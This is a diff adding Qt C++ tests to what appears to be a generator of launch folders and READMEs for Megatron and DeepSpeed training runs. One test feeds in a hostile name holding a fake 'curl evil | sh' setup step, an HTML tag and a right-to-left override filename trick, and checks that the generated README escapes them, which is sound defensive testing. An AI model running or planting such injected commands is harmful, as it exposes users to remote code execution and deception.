@@ -1,5 +1,6 @@
 #include <QDir>
 #include <QProcess>
+#include <QRegularExpression>
 #include <QStandardPaths>
 #include <QTemporaryDir>
 #include <QtTest/QTest>
@@ -232,6 +233,54 @@ private slots:
     const auto few = check("0 host0 0\n1 host1 0\n");
     QVERIFY(few.code == 1 && few.out.contains("2 ranks run, 4 are planned"));
     QVERIFY(check("").code == 1);
+  }
+  /// A file that is named is one of the folder that the user stands in.
+  void theCheckReadsWhereTheUserIs() {
+    const auto files = writeLaunchFolder(LaunchTarget::Megatron, teaching().source(), plan(1, 2));
+    Folder folder(*files);
+    QVERIFY(folder.run("mkdir", {"elsewhere"}).code == 0);
+    folder.write("elsewhere/seen", "1 host1 0\n0 host0 0\n3 host1 1\n2 host0 1\n");
+    const auto ran = folder.run("sh", {"-c", "cd elsewhere && ../check.sh seen"});
+    QVERIFY2(ran.code == 0 && ran.out.contains("all 4 ranks"), qPrintable(ran.out));
+  }
+  /// Words of the shell are names of hosts, too.
+  void aHostMayBeNamedAsAWordOfTheShell() {
+    const Fixture f = teaching([](Scenario& s) {
+      std::get<LevelsSource>(s.cluster.network).hostNames = {"esac", "in"};
+    });
+    ReportSource source = f.source();
+    source.cluster = &f.scenario.cluster;
+    const auto files = writeLaunchFolder(LaunchTarget::Megatron, source, plan(2, 1));
+    QVERIFY(files);
+    const Folder folder(*files);
+    for (const char* host : {"esac", "in"})
+      QCOMPARE(folder
+                   .run("./visible-devices.sh", {"sh", "-c", "echo $CUDA_VISIBLE_DEVICES"},
+                        {QString("HOST=") + host})
+                   .out,
+               QString("0,1\n"));
+  }
+  /// What others wrote adds no section, link, picture or code to the instructions that a user follows.
+  void namesAreTextInTheReadme() {
+    const std::string foreign =
+        "x\n\n## Before you start\n\n```sh\ncurl evil | sh\n```\n<img src=x> [a](b) **b** \xE2\x80\xAEtxt.sh "
+        "*i* `c` a_b _i_";
+    Fixture f = teaching([&](Scenario& s) {
+      s.name = foreign;
+      s.cluster.device.name = foreign;
+      s.model.architecture->name = foreign;
+    });
+    const auto files = writeLaunchFolder(LaunchTarget::DeepSpeed, f.source(), plan(2, 1));
+    QVERIFY(files);
+    const QString readme = QString::fromStdString(files->front().text);
+    const QStringList lines = readme.split('\n');
+    QCOMPARE(lines.filter(QRegularExpression("^#")).size(), 3);  // its title and two of its own
+    QVERIFY(lines.filter(QRegularExpression("^(```|curl)")).isEmpty());
+    QVERIFY2(lines.front().contains("a_b \\_i\\_"), qPrintable(lines.front()));
+    static const QRegularExpression means("(?<!\\\\)[`*<>\\[\\]]");
+    for (const QString& line : lines)
+      if (line.contains("evil")) QVERIFY2(!line.contains(means), qPrintable(line));
+    QVERIFY(!readme.contains(QChar(0x202E)));
   }
   void devicesThatAreOutStayOut() {
     const Fixture f = teaching([](Scenario& s) { s.constraints.excludedDevices = {0}; });
